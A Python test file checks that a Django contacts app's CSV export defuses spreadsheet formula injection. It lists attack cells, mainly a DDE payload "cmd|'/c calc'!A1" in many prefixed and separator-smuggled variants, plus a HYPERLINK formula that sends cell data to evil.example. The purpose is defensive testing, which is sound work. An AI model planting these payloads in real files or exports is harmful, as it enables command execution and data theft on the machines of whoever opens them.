"""The export: every field of every submission, and nothing that a spreadsheet runs."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from contacts.contact import FIELDS
from contacts.history import export
from contacts.history.columns import COLUMNS
from contacts.models import Submission
from tests.contacts.test_contact import WHOLE
from tests.growth import assert_linear
from tests.submissions import queued

FORMULA_STARTS = "=+-@＝＋－＠"
# What programs pass over before they look for the start of a formula.
PASSED_OVER = ' \t\r\n\x00"\u00a0\u3000\u200b\ufeff'
RUNS = "cmd|'/c calc'!A1"
ATTACKS = [
    *(f"{start}{RUNS}" for start in FORMULA_STARTS),
    *(f"{before}={RUNS}" for before in (*PASSED_OVER, "\r\n", " \t ", "\x00\x00", '""', ' " ')),
    *(
        f"x{separator}{RUNS_BEFORE}={RUNS}{separator}"
        for separator in ",;\t"
        for RUNS_BEFORE in ("", " ", '"', '""', "\n")
    ),
    *(f"x{line}+{RUNS}" for line in ("\n", "\r", "\r\n", "\v", "\f", "\x85", "\u2028", "\u2029")),
    f'";={RUNS};"',
    f'",={RUNS},"',
    f'x";\t@{RUNS}',
    f"x;＝{RUNS};",
    f"x;'\n={RUNS};",
    '=HYPERLINK("https://evil.example/?"&A1;"here")',
    "-2+3+" + RUNS,
]


def written(*cells: str) -> str:
    """A file of two lines, as the export writes them."""
    lines = io.StringIO()
    csv.writer(lines, quoting=csv.QUOTE_ALL).writerows(
        [["id", "name", "last"], [export.harmless(cell) for cell in cells]]
    )
    return lines.getvalue()


def cells_as_read(text: str) -> list[str]:
    """Every cell that any program may make of the file: each separator, quotes understood or not."""
    ways = [(delimiter, quoting) for delimiter in ",;\t" for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE)]
    return [
        cell
        for delimiter, quoting in ways
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quoting)
        for cell in row
    ]


def formulas(text: str) -> list[str]:
    return [cell for cell in cells_as_read(text) if cell.lstrip(PASSED_OVER).startswith(tuple(FORMULA_STARTS))]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_program_finds_a_formula(attack):
    assert formulas(written("1", attack, "x")) == []
    assert formulas(written(attack, attack, attack)) == []


@given(
    st.lists(
        st.text(st.sampled_from(FORMULA_STARTS + PASSED_OVER + ",;'x1\u2028"), max_size=12), min_size=3, max_size=3
    )
)
def test_no_program_finds_a_formula_in_any_mixture(cells):
    assert formulas(written(*cells)) == []


@pytest.mark.parametrize(
    "text", ["Sophie Martin", "C++", "a=b", "O'Neil", "10-12", "x - y", "sophie@acme.example", "a; b"]
)
def test_what_is_harmless_stays_as_it_is(text):
    assert export.harmless(text) == text


@pytest.mark.slow
@pytest.mark.parametrize("unit", [",", ";", " ", '"', ", ", '," ', "\u200b", "\x00", "="])
def test_a_long_cell_is_made_harmless_in_time_that_grows_with_its_length(unit):
    assert_linear(export.harmless, lambda size: unit * (size // len(unit)), size=50_000)


@pytest.mark.django_db
class TestTheFile:
    def rows(self) -> list[dict[str, str]]:
        text = "".join(export.csv_lines(Submission.objects.all(), list(COLUMNS)))
        return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))

    def test_every_field_of_the_contact_has_its_column(self, recruiter):
        queued(recruiter, WHOLE)

        [row] = self.rows()

        assert row["entered_by"] == "sophie"
        assert {name: row[name] for name in FIELDS if name in WHOLE} == {
            "first_name": "Sophie",
            "last_name": "Martin",
            "emails": "sophie@example.com (work); s.martin@example.com",
            "phones": "'+33612345678 (personal)",
            "linkedin_profile": "https://www.linkedin.com/in/sophie-martin",
            "location": "Lyon",
            "title": "Engineer",
            "current_company": "Acme",
            "years_experience": "0",
            "skills": "Django",
            "languages": "French",
            "contact_type": "candidate",
            "tags": "Rust; Remote",
            "source": "linkedin",
            "global_status": "new",
            "do_not_contact": "true",
            "company_id": "5d1f0a52-7c1e-4b7e-9a51-0d3c6a4f1e01",
            "custom_data": '{"notice_period": "none", "remote": false}',
        }

    def test_a_single_address_is_in_the_column_of_all(self, recruiter):
        queued(recruiter, {"first_name": "Ana", "email": "ana@example.com"})

        [row] = self.rows()

        assert (row["first_name"], row["emails"], row["phones"]) == ("Ana", "ana@example.com", "")

    @pytest.mark.parametrize("name", ["first_name", "tags", "custom_data", "email"])
    def test_no_field_brings_a_formula(self, recruiter, name):
        attack = f"x;={RUNS};"
        value = {"tags": [attack, f"={RUNS}"], "custom_data": {attack: attack, "a": [f";={RUNS}"]}}.get(name, attack)
        queued(recruiter, {"first_name": "Ana"} | {name: value})

        assert formulas("".join(export.csv_lines(Submission.objects.all(), list(COLUMNS)))) == []
